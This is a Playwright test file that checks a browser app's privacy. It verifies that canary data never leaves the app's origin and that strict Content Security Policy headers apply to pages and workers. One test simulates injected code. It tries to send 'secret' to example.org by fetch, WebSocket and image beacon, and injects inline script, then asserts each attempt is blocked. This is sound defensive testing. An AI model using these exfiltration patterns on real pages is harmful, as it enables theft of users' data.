import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium as playwright, type Page, type Worker } from '@playwright/test'
import { chromium } from './chromium.ts'
import { ROOT } from '../scripts/install-dependencies.mjs'
import { serveFolder } from '../scripts/serve.mjs'
import { App } from './support/app.ts'
import { customers } from './support/tables.ts'
import { expect, test } from './support/test.ts'

test.describe.configure({ retries: 0 })

const CANARY = 'canary7f3a9c'

/** From a file to its answers, with a word in file name, header and cells that must get nowhere. */
async function canaryJourney(app: App): Promise<void> {
  const { m } = app
  const table = customers(120).replaceAll('North', CANARY).replace('age', `${CANARY} age`)
  await app.quickModel({ name: `${CANARY}.csv`, content: table })
  await app.evaluate()
  await app.button(m.evaluate.keep).click()
  await expect(app.kept).toBeVisible()
  await app.go('predict')
  await app.give(m.predict.scoreFile, { name: `${CANARY}.csv`, content: table })
  await app.download(() => app.button(m.predict.download).click())
}

/** Lists what the policy refuses, from before the page's first script, but for the page's own trial of it. */
async function countViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = []
    Reflect.set(window, '__violations', violations)
    document.addEventListener('securitypolicyviolation', (event) => {
      if (event.blockedURI !== 'data')
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`)
    })
  })
}

function violations(page: Page): Promise<unknown> {
  return page.evaluate(() => Reflect.get(window, '__violations') as unknown)
}

test('a whole journey asks the own origin only, never with a word of the data, under the strict policy', async ({
  app,
  page,
  watch,
  baseURL,
}) => {
  const { m } = app
  const origin = new URL(baseURL ?? '').origin
  const policies = new Map<string, string>()
  page.on('response', (response) => {
    policies.set(response.url(), response.headers()['content-security-policy'] ?? '')
  })
  await countViolations(page)
  await canaryJourney(app)
  await page.reload()
  await app.goModels()
  await expect(app.table(m.models.title)).toContainText(CANARY)
  expect(await violations(page)).toEqual([])
  expect(await page.context().cookies()).toEqual([])

  expect(watch.requests.length).toBeGreaterThan(10)
  for (const url of watch.requests) {
    expect(url.startsWith(`${origin}/`) || url.startsWith(`blob:${origin}/`), url).toBe(true)
    expect(url).not.toContain(CANARY)
  }
  const asked = [...policies].filter(([url]) => url.startsWith(origin))
  expect(asked.some(([url]) => url.includes('/workers/'))).toBe(true)
  for (const [url, policy] of asked) {
    expect(policy, url).toMatch(/^default-src 'none'; script-src 'self'/)
    // Compiling WebAssembly of our own script is allowed to workers; code in text is allowed to nobody.
    expect(policy, url).not.toContain("'unsafe")
    if (url.includes('/workers/')) expect(policy, url).toContain("connect-src 'none'")
  }
})

/** Ways to send something from a page and from a worker alike; each tells whether it was refused. */
async function refusals(place: Page | Worker): Promise<Record<string, boolean>> {
  const ask = async () => {
    const refused = async (attempt: () => unknown) => {
      try {
        await attempt()
        return false
      } catch {
        return true
      }
    }
    return {
      fetch: await refused(() => fetch('https://example.org/?q=secret')),
      socket: await refused(
        () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://example.org/')
            socket.onopen = resolve
            socket.onerror = reject
          }),
      ),
    }
  }
  return 'url' in place && 'mouse' in place ? place.evaluate(ask) : place.evaluate(ask)
}

test('even code that got into the page or a worker can send nothing out', async ({
  app,
  page,
  watch,
}) => {
  watch.expect(
    /Content Security Policy|Refused to connect|Connection-Allowlist|ERR_BLOCKED|TrustedScript/i,
  )
  await countViolations(page)
  await app.quickModel()
  expect(await refusals(page)).toEqual({ fetch: true, socket: true })
  const [worker] = page.workers().filter((each) => each.url().includes('data'))
  if (worker === undefined) throw new Error('there is no data worker')
  expect(await refusals(worker)).toEqual({ fetch: true, socket: true })

  const inPage = await page.evaluate(async () => {
    const image = new Image()
    const loaded = new Promise<boolean>((resolve) => {
      image.onload = () => {
        resolve(true)
      }
      image.onerror = () => {
        resolve(false)
      }
    })
    image.src = 'https://example.org/pixel.png?q=secret'
    const script = document.createElement('script')
    try {
      script.text = 'window.__ran = true'
      document.body.append(script)
    } catch {
      // Trusted Types refuse the text; without them the policy refuses to run it.
    }
    return { image: await loaded, script: Reflect.has(window, '__ran') }
  })
  expect(inPage).toEqual({ image: false, script: false })
  expect(await violations(page)).toEqual(
    expect.arrayContaining([
      expect.stringContaining('connect-src'),
      expect.stringContaining('img-src'),
    ]),
  )
})

/** What Chromium asks for by itself: updates, sign-in, what to fill into forms. */
const BROWSER_HOSTS = /(^|\.)(google|googleapis|gvt1)\.com$/

/** The hosts that the browser's log of the network says were asked or looked up, but for the browser's own. */
function loggedHosts(log: string): string[] {
  const found = [...log.matchAll(/"(?:url|host)":"(?:(?:https?|wss?):\/\/)?([^"/]+)/g)]
  const hosts = found.map(([, host = '']) => host.replace(/:\d+$/, ''))
  return [...new Set(hosts)].filter((host) => !BROWSER_HOSTS.test(host))
}

test(
  'without headers everything works, and no word of the data is in the log of the network or of the host',
  { tag: '@long' },
  async () => {
    test.setTimeout(180_000)
    const folder = mkdtempSync(join(tmpdir(), 'terrarium-net-log-'))
    const log = join(folder, 'net-log.json')
    const asked: string[] = []
    const host = await serveFolder({
      root: join(ROOT, 'dist'),
      port: 0,
      headersOf: (address) => {
        asked.push(address)
        return {}
      },
    })
    const browser = await playwright.launch({
      ...chromium,
      args: [...chromium.args, `--log-net-log=${log}`, '--net-log-capture-mode=IncludeSensitive'],
    })
    try {
      const page = await browser.newPage({ baseURL: host.address })
      const app = new App(page)
      const { m } = app
      await canaryJourney(app)
      await app.goPrivacy()
      await expect(app.title).toHaveText(m.lock.titles.partial)
      await expect(app.pane(m.lock.restsOn)).toContainText(m.lock.inherited)
    } finally {
      await browser.close()
      await host.close()
    }
    const text = readFileSync(log, 'utf8')
    rmSync(folder, { recursive: true })
    // The log saw the page at all.
    expect(text).toContain(`${host.address}workers/data.worker`)
    expect(text.includes(CANARY)).toBe(false)
    expect(asked.join('\n')).not.toContain(CANARY)
    expect(loggedHosts(text)).toEqual(['127.0.0.1'])
  },
)
